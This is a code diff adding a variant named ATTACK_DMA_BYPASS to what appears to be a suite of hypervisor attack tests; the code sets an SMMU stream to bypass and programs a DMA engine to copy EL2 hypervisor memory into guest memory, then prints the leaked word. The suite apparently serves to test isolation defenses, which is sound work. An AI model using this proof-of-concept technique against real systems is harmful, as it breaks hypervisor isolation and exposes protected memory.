@@ -49,6 +49,24 @@ int main(void) {
 #elif defined(ATTACK_BAD_CBNDX)
     uart_puts("allocate bank 5 of SMMU1 (it has 4)\n");
     hvc(24, 5, vmid, 1, 0, 0);
+#elif defined(ATTACK_DMA_BYPASS)
+    /* A route no source checks: S2CR bypass for the DMA engine's stream. The engine then reads
+     * EL2's carve-out (the shadow table root of SMMU0 bank 1) into host memory. */
+    static unsigned long leak[2] __attribute__((aligned(64)));
+    hvc(25, 0x10000000UL, 0x40100000UL, 0xFF, 1, 0);  /* map a page: the root gets a table entry */
+    R32(SMMU0 + 0xC00) = 1u << 16;                    /* S2CR0: bypass */
+    R32(SMMU0 + 0x800) = 0x80000005;                  /* SMR0: stream 5 */
+    R32(SMMU0 + 0x0) = 0x00200000;                    /* enable */
+    *(volatile unsigned long *)(0x09070000UL + 0x00) = 0x4FC02000UL;  /* SRC: EL2 memory */
+    *(volatile unsigned long *)(0x09070000UL + 0x08) = (unsigned long)leak;
+    R32(0x09070000UL + 0x10) = 8;
+    R32(0x09070000UL + 0x14) = 5;
+    R32(0x09070000UL + 0x18) = 1;
+    uart_puts("dma status ");
+    uart_puthex(R32(0x09070000UL + 0x1C));
+    uart_puts(", leaked EL2 word ");
+    uart_puthex(leak[0]);
+    uart_putc('\n');
 #else
 #error "choose an attack"
 #endif
